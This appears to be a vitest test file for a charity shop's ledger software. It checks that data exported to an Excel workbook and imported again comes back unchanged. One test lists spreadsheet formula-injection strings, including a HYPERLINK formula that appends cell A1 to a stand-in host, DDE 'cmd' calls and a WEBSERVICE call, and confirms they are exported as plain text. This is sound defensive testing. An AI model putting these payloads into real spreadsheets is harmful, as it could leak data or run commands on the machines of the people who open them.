import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { openDatabase, openForReading } from '../../main/db/open-database.ts';
import { unlockPersonal } from '../../main/db/personal/access.ts';
import { ledgerSource } from '../../main/db/repositories/ledger-rows.ts';
import { writeWorkbook } from '../../main/documents/workbook/write/write-workbook.ts';
import { importDesk } from '../../main/host/import-desk.ts';
import { verify } from '../../main/journal/verify.ts';
import { createDemo } from '../../main/usecases/settings/demo/create-demo.ts';
import { planExport } from '../../main/usecases/ledger/plan-export.ts';
import type { ImportOutcome } from '../../shared/domain/ledger/import-report.ts';
import { IMPORT_ORDER, LEDGERS, type LedgerId } from '../../shared/domain/ledger/ledger-definitions.ts';
import type { LedgerRow } from '../../shared/domain/ledger/ledger-row.ts';
import { centipoints, type Instant } from '../../shared/kernel/brands.ts';
import { localDate } from '../../shared/kernel/local-date.ts';
import { receiveFromPaper } from '../builders/deliveries.ts';
import { receiveGifts } from '../builders/gifts.ts';
import { openLivelyShop } from '../builders/lively-shop.ts';
import { sentAway, takenBack, takenOut, writeOffOf } from '../builders/outbound.ts';
import { openShop, Shop, TEST_PERSONAL, TODAY, valueOf } from '../builders/shop.ts';
import { openWithOpenpyxl } from '../builders/office.ts';
import { tookStock } from '../builders/stocktake.ts';

const MADE = '2026-07-15T02:00:00.000Z' as Instant;
const EVERYTHING = { ledger: null, from: null, to: null, villageId: null, householdId: null, level: 'full' as const };

async function exportAll(shop: Shop, name: string): Promise<string> {
  const path = join(shop.folder, name);
  const db = openForReading(shop.path);
  unlockPersonal(db, TEST_PERSONAL);
  db.exec('BEGIN');
  const plan = valueOf(planExport(db, EVERYTHING, localDate(TODAY)));
  await writeWorkbook(path, plan.sheets, { signal: new AbortController().signal, made: MADE });
  db.close();
  return path;
}

async function importAll(shop: Shop, path: string): Promise<ImportOutcome> {
  const desk = importDesk();
  const signal = new AbortController().signal;
  const file = { name: '全部台账.xlsx', bytes: new Uint8Array(readFileSync(path)) };
  const preview = valueOf(await drained(desk.previewImport(shop.context(), file, null, signal)));
  return valueOf(await drained(desk.commitImport(shop.context(), preview.importId, signal)));
}

async function drained<T>(work: AsyncGenerator<unknown, T>): Promise<T> {
  let step = await work.next();
  while (step.done !== true) step = await work.next();
  return step.value;
}

function rowsOf(shop: Shop, ledger: LedgerId): LedgerRow[] {
  const db = openForReading(shop.path);
  unlockPersonal(db, TEST_PERSONAL);
  const rows = [
    ...ledgerSource(db, ledger, { ...EVERYTHING, today: localDate('2027-01-01'), yearlyCapCentipoints: null }).rows,
  ];
  db.close();
  return rows;
}

/** What every account that people look at holds, by names that are the same in both shops. */
function balancesOf(shop: Shop): unknown[] {
  return [
    ...shop.db
      .prepare(
        `SELECT h.household_no AS who, replace(b.account, h.id, '') AS account, b.amount AS amount
         FROM balance b JOIN household h ON b.account LIKE 'household/' || h.id || '/%' WHERE b.amount <> 0 ORDER BY 1, 2`,
      )
      .all(),
    ...shop.db
      .prepare(
        `SELECT i.code AS item, l.code AS lot, b.book AS book, b.amount AS amount FROM balance b
         JOIN lot l ON l.id = b.lot_id JOIN item i ON i.id = l.item_id WHERE b.amount <> 0 ORDER BY 1, 2, 3`,
      )
      .all(),
  ];
}

/** Takes everything the shop exports into an empty one and expects the same rows, the same balances, sound books. */
async function expectRoundTrip(shop: Shop): Promise<void> {
  const copy = await openShop({ scheme: 'civility' });
  const file = await exportAll(shop, 'first.xlsx');
  const outcome = await importAll(copy, file);
  const problems = outcome.sheets.flatMap((sheet) => sheet.problems);
  expect(problems.filter(({ severity }) => severity === 'error')).toEqual([]);
  for (const ledger of [...IMPORT_ORDER, 'stock_movement' as const]) {
    const [before, after] = [rowsOf(shop, ledger), rowsOf(copy, ledger)];
    const at = after.findIndex((row, index) => JSON.stringify(row) !== JSON.stringify(before[index]));
    expect({ rows: after.length, first: after[at] }, LEDGERS[ledger].sheet).toEqual({
      rows: before.length,
      first: before[at],
    });
  }
  expect(balancesOf(copy)).toEqual(balancesOf(shop));
  expect(verify(copy.db)).toMatchObject({ problem: null });
  // The same file again, and the copy's own file, add nothing.
  for (const seen of [file, await exportAll(copy, 'second.xlsx')]) {
    const { sheets } = await importAll(copy, seen);
    expect(sheets.map(({ added, updated, bad }) => added + updated + bad)).toEqual(sheets.map(() => 0));
  }
  copy.close();
}

test('a lively shop comes out of an empty one as it was', async () => {
  const shop = await openLivelyShop();
  await expectRoundTrip(shop);
  shop.close();
});

test('gifts come out with their donors and groups: completed later, freed by consent, taken back', async () => {
  const shop = await openShop({ scheme: 'civility' });
  receiveGifts(shop, shop.item({ code: 'WP020', name: '棉被', unit: '床', expiryTracked: false }).id);
  await expectRoundTrip(shop);
  expect(rowsOf(shop, 'donation')).toHaveLength(7);
  shop.close();
});

test('two years of the demonstration village come out as they were', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'aixin-round-'));
  const path = join(folder, 'shop.db');
  const db = openDatabase(path);
  unlockPersonal(db, TEST_PERSONAL);
  await drained(createDemo(db, { households: 25, years: 2, seed: 11, today: localDate(TODAY) }));
  db.close();
  const shop = new Shop(folder, path);
  await expectRoundTrip(shop);
  shop.close();
});

/** What a spreadsheet would take for a formula, a command or a number, were it not plain text. */
const LOOKS_HOSTILE = [
  '=HYPERLINK("http://x.invalid/?"&A1,"点我")',
  "=cmd|' /C calc'!A0",
  '+cmd|calc',
  '-2+3+cmd|x',
  '@SUM(A1:A9)',
  '=WEBSERVICE("http://x.invalid")',
  '%0A=1+1',
  "'=1+1",
  '<script>alert(1)</script>',
  '"&quot;,;\'',
  '_x0041_',
  '12E5',
];

test('text that looks like a formula goes out as text and comes back in as it was', async () => {
  const shop = await openShop({ scheme: 'civility' });
  const made = LOOKS_HOSTILE.map((text) => {
    const household = shop.household({ headName: text, note: text, groupName: text, members: text });
    return { household: household.id, item: shop.item({ name: text, note: text, spec: text }).id };
  });
  for (const { item } of made) shop.receive(item, 5, 500);
  for (const { household } of made) shop.award(household, 100_000);
  for (const { household, item } of made) shop.redeem(household, [[item, 2]]);
  const path = await exportAll(shop, 'looked-at.xlsx');
  const cells = openWithOpenpyxl(path).flatMap(({ cells: all }) => Object.values(all));
  const seen = (text: string): number => cells.filter(({ value, type }) => value === text && type === 's').length;
  // openpyxl shows the spelling of the format where the text itself looks like one.
  const written = LOOKS_HOSTILE.map((text) => text.replace('_x', '_x005F_x'));
  expect(written.filter((text) => seen(text) < 5)).toEqual([]);
  // The only formulas are our own sums.
  expect(
    cells.filter(({ type, value }) => type === 'f' && !/^=SUM\([A-Z]+\d+:[A-Z]+\d+\)$/.test(String(value))),
  ).toEqual([]);
  await expectRoundTrip(shop);
  shop.close();
});

test('what was written off comes out as it was, and so does what was taken back', async () => {
  const shop = await openShop();
  const day = (date: number): string => `2026-07-${String(date).padStart(2, '0')}`;
  const rice = shop.item({ code: 'WP001' });
  const egg = shop.item({ code: 'WP002', name: '鸡蛋', unit: '个', spec: '' });
  shop.receive(rice.id, 3, 1000, { lotCode: 'A', expiresOn: day(2), today: day(1) });
  shop.receive(rice.id, 7, 2000, { lotCode: 'B', expiresOn: '2027-07-01', today: day(1) });
  shop.receive(egg.id, 60, null, { lotCode: 'E', today: day(1) });
  const ran = shop.household();
  shop.award(ran.id, 100_000, day(2));
  // Of seven for ¥20 two go at 5.71, then two of five at 5.71, one of three at 2.86: the cost on paper is the one that counts.
  shop.redeem(ran.id, [[rice.id, 2]], day(3));
  const wrong = takenOut(shop, writeOffOf(shop, [['E', 50, 'lost']], { note: '' }), day(4));
  const mixed = writeOffOf(shop, [
    ['A', 2, 'expired'],
    ['A', 1, 'damaged', '=受潮'],
    ['E', 3],
  ]);
  takenOut(shop, mixed, day(5));
  takenOut(shop, writeOffOf(shop, [['B', 2]], { disposal: '作饲料', witness: '李大山' }), day(6));
  takenBack(shop, wrong.id, '找到了；又放回', day(7));
  takenOut(shop, writeOffOf(shop, [['E', 57]]), day(8));
  shop.redeem(ran.id, [[rice.id, 1]], day(9));
  await expectRoundTrip(shop);
  shop.close();
});

test('counts come out as they were, of one day and of several, with batches that only a count knew', async () => {
  const shop = await openShop();
  const day = (date: number): string => `2026-07-${String(date).padStart(2, '0')}`;
  const household = shop.household();
  const item = (name: string) => shop.item({ name, priceCentipoints: centipoints(10) }).id;
  const [rice, oil, gift] = [item('大米'), item('菜籽油'), item('毛巾')];
  shop.receive(rice, 7, 1000, { lotCode: 'A', expiresOn: '2026-12-01', today: day(1) });
  shop.receive(oil, 10, 4999, { lotCode: 'B', today: day(1) });
  shop.receive(gift, 5, null, { lotCode: 'C', today: day(1) });
  shop.award(household.id, 100_000, day(1));
  const pile = (goods: typeof rice, lot: string, count: number) => ({ item: goods, lot, count });
  tookStock(shop, [pile(rice, 'A', 5), pile(oil, 'B', 10), pile(gift, 'C', 6)], day(2));
  await expectRoundTrip(shop);
  shop.redeem(household.id, [[rice, 2]], day(3));
  const found = { code: 'F7', expiresOn: localDate('2027-01-31') };
  tookStock(
    shop,
    [
      pile(rice, 'A', 2),
      { item: rice, lot: found, count: 3, by: 'counter-two' },
      { item: oil, lot: { code: '', expiresOn: null }, count: 1 },
      pile(oil, 'B', 12),
    ],
    day(4),
  );
  shop.redeem(household.id, [[rice, 4]], day(5));
  tookStock(shop, [pile(rice, 'A', 0), pile(oil, 'B', 0)], day(6));
  await expectRoundTrip(shop);
  const expiry = shop.db.prepare("SELECT expires_on FROM lot WHERE code = 'F7'").pluck();
  expect(expiry.get()).toBe('2027-01-31');
  shop.close();
});

test('what went to another shop and back to its supplier comes out as it was', async () => {
  const shop = await openShop();
  const day = (date: number): string => `2026-07-${String(date).padStart(2, '0')}`;
  const rice = shop.item({ code: 'WP001' });
  shop.receive(rice.id, 7, 2000, { lotCode: 'A', today: day(1) });
  shop.receive(rice.id, 9, null, { lotCode: 'B', today: day(1) });
  const ran = shop.household();
  shop.award(ran.id, 100_000, day(2));
  const sent = takenOut(
    shop,
    sentAway(shop, 'transfer_out', '清溪村爱心超市', [
      ['A', 2],
      ['B', 3, 'lost', '支援'],
    ]),
    day(3),
  );
  takenOut(shop, sentAway(shop, 'supplier_return', '供销社', [['A', 2]]), day(4));
  takenBack(shop, sent.id, '没有送到；退回', day(5));
  const noted = {
    ...sentAway(shop, 'transfer_out', '清溪村爱心超市', [['B', 4]]),
    note: '司机老陈',
    witness: '陈师傅',
  };
  takenOut(shop, noted, day(6));
  shop.receive(rice.id, 5, 1750, { lotCode: 'C', today: day(7) });
  shop.redeem(ran.id, [[rice.id, 2]], day(8));
  await expectRoundTrip(shop);
  shop.close();
});

test('what was handed out, brought back and then written off or sent back comes out as it was', async () => {
  const shop = await openShop();
  const day = (date: number): string => `2026-07-${String(date).padStart(2, '0')}`;
  const rice = shop.item({ code: 'WP001' }).id;
  const salt = shop.item({ code: 'WP002', name: '食盐' }).id;
  shop.receive(rice, 5, 1001, { lotCode: 'A', today: day(1) });
  shop.receive(salt, 3, 1000, { lotCode: 'S', today: day(1) });
  const ran = shop.household();
  shop.award(ran.id, 100_000, day(2));
  // Nothing is left of the lot when two of it come back.
  const all = shop.redeem(ran.id, [[rice, 5]], day(3));
  shop.giveBack(all.id, [{ lineNo: 1, quantity: 3 }], day(4));
  takenOut(shop, writeOffOf(shop, [['A', 2, 'damaged', '退回的，袋子破了']]), day(5));
  takenOut(shop, sentAway(shop, 'supplier_return', '供销社', [['A', 1]]), day(6));
  // All of it on one day.
  const salts = shop.redeem(ran.id, [[salt, 3]], day(7));
  shop.giveBack(salts.id, [{ lineNo: 1, quantity: 1 }], day(7));
  takenOut(shop, writeOffOf(shop, [['S', 1]]), day(7));
  await expectRoundTrip(shop);
  shop.close();
});

test('deliveries in boxes with their invoices, and goods with packs, shelf life and an odd barcode, come out as they were', async () => {
  const shop = await openShop({ scheme: 'civility' });
  receiveFromPaper(shop);
  expect(rowsOf(shop, 'item_catalogue')[0]?.at(-1)).toBe(
    '避光；防潮；1箱=12瓶；1件=4瓶；保质期540天；食品；条码说明：厂家就是这样印的；=1+1',
  );
  await expectRoundTrip(shop);
  shop.close();
});
